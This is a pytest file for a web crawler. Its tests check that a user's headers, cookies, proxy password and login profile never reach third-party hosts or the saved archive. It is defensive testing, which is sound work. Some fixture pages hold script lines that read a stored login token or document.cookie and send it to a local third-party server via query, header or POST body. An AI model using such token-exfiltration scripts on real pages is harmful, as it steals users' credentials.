"""Headers, cookies and logins of the user reach the seeds' sites only, and no file of the collection."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from siteseer.fetch.login_profiles import save_profile
from tests.crawler.small_site import Answer, SmallSite, pages
from tests.web.chromium import required

SECRETS = ("s3cret-header", "s3cret-key", "s3cret-cookie", "s3cret-session", "s3cret-profile")
HEADERS = ("Authorization: Bearer s3cret-header", "X-Api-Key: s3cret-key", "Accept-Language: de")
HTML = {"Content-Type": "text/html"}


def other() -> SmallSite:
    """Return a third party: it sends back where it may, and remembers everything."""
    table: dict[str, str | Answer] = {
        "/robots.txt": (200, {"Content-Type": "text/plain"}, b"User-agent: *\nAllow: /\n"),
        "/page": "<p>elsewhere</p>",
        "/style.css": (200, {"Content-Type": "text/css"}, b"b{background:url(/deep.png)}"),
    }
    return SmallSite(lambda path, headers: pages(table)(path, headers) if path in table else (200, {}, b"x"))


def seed_site(third: str) -> SmallSite:
    """Return a site whose pages lead to a third party in every way that a crawl follows."""

    def answer(path: str, headers: dict[str, str]) -> Answer:
        told = f"""<p>A page with words for readers.</p><img src="{third}/pixel.png"><a href="/moved">m</a>
            <link rel=stylesheet href="{third}/style.css"><a href="{third}/page">p</a>
            <script src="{third}/s.js"></script>"""
        table: dict[str, str | Answer] = {
            "/robots.txt": (200, {"Content-Type": "text/plain"}, f"Sitemap: {third}/sitemap.xml\n".encode()),
            "/": (200, {**HTML, "Set-Cookie": "sid=s3cret-session; Path=/"}, told.encode()),
            "/moved": (302, {"Location": f"{third}/landed"}, b""),
        }
        return pages(table)(path, headers)

    return SmallSite(answer)


def kept(folder: Path) -> str:
    """Return everything that a collection holds, as text."""
    read = (gzip.decompress(file.read_bytes()) if file.suffix == ".gz" else file.read_bytes() for file in files(folder))
    return b"\n".join(read).decode("utf-8", "replace")


def files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def sent(site: SmallSite) -> str:
    return "\n".join(f"{name}: {value}" for entry in site.seen for name, value in entry.headers.items())


@pytest.fixture
def cookies(tmp_path: Path) -> Path:
    path = tmp_path / "cookies.txt"
    path.write_text("# Netscape HTTP Cookie File\n127.0.0.1\tFALSE\t/\tFALSE\t0\tlogin\ts3cret-cookie\n")
    return path


def test_secrets_reach_the_seeds_sites_only(run_crawl: Callable, tmp_path: Path, cookies: Path) -> None:
    with other() as third, seed_site(third.url) as site:
        run_crawl(
            site.url, headers=HEADERS, cookies=cookies, assets="all", scope="any", strategy="blind", allow_private=True,
            concurrency=1,
        )  # fmt: skip
    asked = set(third.paths())
    assert {"/robots.txt", "/pixel.png", "/style.css", "/deep.png", "/page", "/s.js", "/landed"} <= asked, asked
    for secret in SECRETS:
        assert secret not in sent(third)
    assert all(entry.headers["accept-language"] == "de" for entry in (*third.seen, *site.seen))
    own = [entry.headers for entry in site.seen]
    assert all(one["authorization"] == "Bearer s3cret-header" and one["x-api-key"] == "s3cret-key" for one in own)
    assert "login=s3cret-cookie" in own[-1]["cookie"] and "sid=s3cret-session" in own[-1]["cookie"]
    for secret in SECRETS:
        assert secret not in kept(tmp_path / "collection")
    assert "X-Api-Key (value not recorded" in kept(tmp_path / "collection")


def test_a_host_of_the_same_name_on_another_port_or_below_is_another_site(run_crawl: Callable) -> None:
    with other() as third:
        port = third.url.rpartition(":")[2]
        with seed_site(f"http://cdn.localhost:{port}") as site:
            url = site.url.replace("127.0.0.1", "localhost")
            run_crawl(url, headers=HEADERS, assets="all", scope="any", allow_private=True)
            third_of_own_name = sent(third)
            assert third.seen and "s3cret" not in third_of_own_name
            assert "s3cret-header" in sent(site)


def test_two_seeds_both_get_what_the_user_sends(run_crawl: Callable, tmp_path: Path) -> None:
    from siteseer.crawler.run import crawl
    from siteseer.settings import CrawlOptions

    with other() as one, other() as two:
        crawl(CrawlOptions((one.url, two.url), tmp_path / "c", strategy="blind", delay=0.0, headers=HEADERS[:1]))
        assert "s3cret-header" in sent(one) and "s3cret-header" in sent(two)


def test_a_seed_that_moves_elsewhere_does_not_take_the_secret_along(run_crawl: Callable) -> None:
    with other() as third, SmallSite(pages({"/": (301, {"Location": f"{third.url}/new"}, b"")})) as site:
        run_crawl(site.url, headers=HEADERS, scope="any", allow_private=True)
        assert "/new" in third.paths() and "s3cret" not in sent(third)


def test_the_password_of_a_proxy_is_for_the_proxy_and_not_for_the_archive(run_crawl: Callable, tmp_path: Path) -> None:
    with SmallSite(pages({"http://nowhere.invalid/": "<p>by way of the proxy</p>"})) as proxy:
        run_crawl("http://nowhere.invalid/", proxy=proxy.url.replace("//", "//me:s3cret-proxy@"))
        assert any("proxy-authorization" in entry.headers for entry in proxy.seen)
    assert "by way of the proxy" in kept(tmp_path / "collection")
    assert "s3cret-proxy" not in kept(tmp_path / "collection") and "czNjcmV0" not in kept(tmp_path / "collection")


def test_a_shown_page_hands_no_secret_to_others(
    run_crawl: Callable, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    required()
    monkeypatch.setenv("SITESEER_PROFILES", str(tmp_path / "profiles"))
    cookie: dict[str, Any] = {
        "name": "sid", "value": "s3cret-profile", "domain": "127.0.0.1", "path": "/", "expires": -1,
        "httpOnly": True, "secure": False, "sameSite": "Lax",
    }  # fmt: skip
    with other() as third:
        script = f"""<div id=app></div><a href="{third.url}/shown">s</a><script>
            fetch('{third.url}/data').catch(() => 0);
            app.textContent = 'words that only a script writes for readers of this page';</script>"""
        shown = "<p id=b></p><script>b.textContent = 'c=' + document.cookie + localStorage.token</script>"
        third.answer = lambda path, headers: (200, HTML, shown.encode())
        with SmallSite(pages({"/": script})) as site:
            origins = [{"origin": url, "localStorage": [{"name": "token", "value": "s3cret-key"}]}
                       for url in (site.url, third.url)]  # fmt: skip
            save_profile("me", {"cookies": [cookie], "origins": origins})
            run_crawl(site.url, headers=HEADERS, profile="me", browser="always", scope="any", allow_private=True)
            assert "s3cret-profile" in sent(site)
        assert {"/data", "/shown"} <= set(third.paths())
    assert not any(secret in sent(third) for secret in SECRETS)
    assert not any(secret in kept(tmp_path / "collection") for secret in SECRETS)


def test_what_scripts_send_to_the_site_is_not_handed_on_by_redirects(run_crawl: Callable, tmp_path: Path) -> None:
    """A token of the page's own script, sent to its site, which redirects to somebody else."""
    required()
    script = """<div id=app></div><script>
        const given = {headers: {Authorization: 'Bearer s3cret-token', 'X-Api-Key': 's3cret-key'}};
        for (const path of ['/moved', '/posted', '/kept'])
            fetch(path, path == '/moved' ? given : {...given, method: 'POST', body: 's3cret-form'}).catch(() => 0);
        app.textContent = 'words that only a script writes for readers of this page';</script>"""
    with other() as third:
        away = {path: (status, {"Location": f"{third.url}/page?{path[1:]}"}, b"")
                for path, status in (("/moved", 302), ("/posted", 303), ("/kept", 307))}  # fmt: skip
        with SmallSite(pages({"/": script, **away})) as site:
            run_crawl(site.url, browser="always", allow_private=True)
    assert {"/moved", "/posted", "/kept"} <= set(site.paths())
    assert {"/page?moved", "/page?posted"} <= set(third.paths()) and "/page?kept" not in third.paths()
    assert "s3cret" not in sent(third) and not any(b"s3cret" in entry.body for entry in third.seen)


def test_scripts_do_not_tell_others_the_login(
    run_crawl: Callable, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A script may read what a login left in the storage of the browser; it is not sent anywhere else."""
    required()
    monkeypatch.setenv("SITESEER_PROFILES", str(tmp_path / "profiles"))
    with other() as third:
        script = f"""<div id=app></div><script>
            const token = localStorage.getItem('token');
            fetch('{third.url}/page?in=' + token).catch(() => 0);
            fetch('{third.url}/page', {{headers: {{Authorization: 'Bearer ' + token}}}}).catch(() => 0);
            fetch('{third.url}/page', {{method: 'POST', body: token}}).catch(() => 0);
            fetch('/own?' + token); fetch('{third.url}/page?innocent');
            app.textContent = 'words that only a script writes for readers of this page';</script>"""
        with SmallSite(pages({"/": script})) as site:
            kept_there = [{"name": "token", "value": "s3cret-0123456789abcdef"}]
            save_profile("me", {"cookies": [], "origins": [{"origin": site.url, "localStorage": kept_there}]})
            run_crawl(site.url, profile="me", browser="always", allow_private=True)
    assert "/own?s3cret-0123456789abcdef" in site.paths(), "a profile without cookies is a login, too"
    assert [path for path in third.paths() if path != "/robots.txt"] == ["/page?innocent"]
    assert "s3cret" not in sent(third) and not any(b"s3cret" in entry.body for entry in third.seen)


def test_links_do_not_tell_others_the_login(run_crawl: Callable, cookies: Path) -> None:
    cookies.write_text(cookies.read_text().replace("s3cret-cookie", "s3cret-cookie-0123456789"))
    link = "<a href='{}/page?s=s3cret-cookie-0123456789'>a</a>"
    with other() as third, SmallSite(pages({"/": link.format(third.url)})) as site:
        summary = run_crawl(site.url, cookies=cookies, scope="any", allow_private=True)
    assert third.paths() in ([], ["/robots.txt"]) and summary["errors"] == 1
